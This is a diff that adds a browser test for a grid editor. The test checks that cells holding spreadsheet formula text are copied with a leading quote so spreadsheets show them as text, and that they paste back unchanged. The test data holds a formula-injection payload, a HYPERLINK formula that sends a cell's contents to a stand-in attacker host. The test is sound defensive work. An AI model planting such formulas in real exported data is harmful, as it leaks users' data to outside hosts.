@@ -74,6 +74,29 @@ test('paste from Excel with quoted cells; a larger range repeats the clipboard; 
   await expect(cell(5, 'loc')).toHaveText('https://example.com/page-5');
 });
 
+test('a cell a spreadsheet would run as a formula is copied behind a single quote, and pasted back as it was', async ({
+  app,
+}) => {
+  const { cell } = gridHelpers(app, 'pages');
+  // A spreadsheet's own formula text pastes in as it is…
+  await app.evaluate(() => navigator.clipboard.writeText('=HYPERLINK("https://evil.example/?"&A1)\t@SUM(1)'));
+  await cell(1, 'lastmod').click();
+  await app.keyboard.press('Control+v');
+  await expect(cell(1, 'lastmod')).toHaveText('=HYPERLINK("https://evil.example/?"&A1)');
+  await expect(cell(1, 'changefreq')).toHaveText('@SUM(1)');
+  // …is copied so that a spreadsheet shows it as text instead of running it…
+  await cell(1, 'changefreq').click({ modifiers: ['Shift'] });
+  await app.keyboard.press('Control+c');
+  expect(await app.evaluate(() => navigator.clipboard.readText())).toBe(
+    `"'=HYPERLINK(""https://evil.example/?""&A1)"\t'@SUM(1)`,
+  );
+  // …and pasted back into the grid unchanged.
+  await cell(2, 'lastmod').click();
+  await app.keyboard.press('Control+v');
+  await expect(cell(2, 'lastmod')).toHaveText('=HYPERLINK("https://evil.example/?"&A1)');
+  await expect(cell(2, 'changefreq')).toHaveText('@SUM(1)');
+});
+
 test("the context menu's Cut, Copy and Paste use the system clipboard, repeated over a range and undone at once", async ({
   app,
 }) => {
